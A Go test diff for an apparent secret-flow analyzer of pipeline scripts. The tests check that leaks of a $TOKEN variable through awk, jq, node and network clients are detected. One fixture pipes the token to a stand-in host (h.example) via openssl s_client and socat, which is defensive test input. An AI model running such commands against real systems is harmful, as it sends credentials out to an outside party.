@@ -70,6 +70,14 @@ func TestFlowsOfScripts(t *testing.T) {
 		{"a field", `echo "$TOKEN" | jq -r .password`, []string{"log by jq KEY +json masked=no at jq"}},
 		{"hex", `printf %s "$TOKEN" | xxd -p`, []string{"log by xxd KEY +hex masked=no at xxd"}},
 		{"a heredoc", "cat <<EOF\nkey $TOKEN\nEOF", []string{"log by cat KEY masked=yes at $TOKEN"}},
+		{"a variable of awk", "awk -v t=\"$TOKEN\" 'BEGIN{print t}'", []string{"argv by awk KEY at $TOKEN", "log by awk KEY masked=yes at awk"}},
+		{"a part of a variable of awk", "awk -v t=\"$TOKEN\" 'BEGIN{print substr(t, 1, 3)}'", []string{"argv by awk KEY at $TOKEN", "log by awk KEY +substring masked=no at awk"}},
+		{"a variable that awk only compares", "awk -v t=\"$TOKEN\" '$1 == t {print $2}' users\nawk -v t=\"$TOKEN\" 'BEGIN{print length(t), \"t\"}'", []string{"argv by awk KEY at $TOKEN", "argv by awk KEY at $TOKEN"}},
+		{"the environment of awk", `awk 'BEGIN{print ENVIRON["TOKEN"]; print toupper(ENVIRON["TOKEN"])}'`, []string{"log by awk KEY masked=yes at awk", "log by awk KEY +case masked=no at awk"}},
+		{"a part by jq", "jq -n '$ENV.TOKEN[0:4]'\njq -n 'env.TOKEN | length'", []string{"log by jq KEY +substring masked=no at jq"}},
+		{"all variables by jq", "jq -n env", []string{"log by jq env KEY masked=yes at jq"}},
+		{"what node prints", "node -p 'process.env.TOKEN'\nnode -p 'process.env.TOKEN.length'", []string{"log by print KEY masked=yes likely at TOKEN"}},
+		{"a client of TLS", "echo \"$TOKEN\" | openssl s_client -quiet -connect h.example:443\necho \"$TOKEN\" | socat - TCP:h.example:80", []string{"network by openssl KEY host=h.example at $TOKEN", "network by socat KEY host=h.example at $TOKEN"}},
 		{"a quoted heredoc", "cat <<'EOF'\nkey $TOKEN\nEOF", nil},
 		{"a herestring", "cat <<< \"$TOKEN\"", []string{"log by cat KEY masked=yes at $TOKEN"}},
 		{"lines that are folded", `echo $TOKEN | fold -w1`, []string{"log by fold KEY +substring masked=no at fold"}},
@@ -264,6 +272,27 @@ func TestScriptsThatCannotBeReadAreGaps(t *testing.T) {
 	gaps := doc.Root.Get("gaps").List()
 	if len(gaps) != 1 || gaps[0].Get("why").Str() != "syntax" {
 		t.Fatalf("got %d gaps", len(gaps))
+	}
+}
+
+func TestCodeOfTheRepositoryThatIsNotFollowedIsAGap(t *testing.T) {
+	tests := []struct {
+		script string
+		want   int
+	}{
+		{"just deploy", 1},
+		{"go run ./tools/deploy", 1},
+		{"cargo run --bin deploy", 1},
+		{"deno task deploy", 1},
+		{"task --list", 0},
+		{"go build ./...", 0},
+		{"env -u TOKEN go run ./tools/deploy", 0},
+	}
+	for _, tt := range tests {
+		_, doc := pipelinetest.Followed(t, script(tt.script), nil)
+		if got := len(doc.Root.Get("gaps").List()); got != tt.want {
+			t.Errorf("%s: got %d gaps, want %d", tt.script, got, tt.want)
+		}
 	}
 }
 
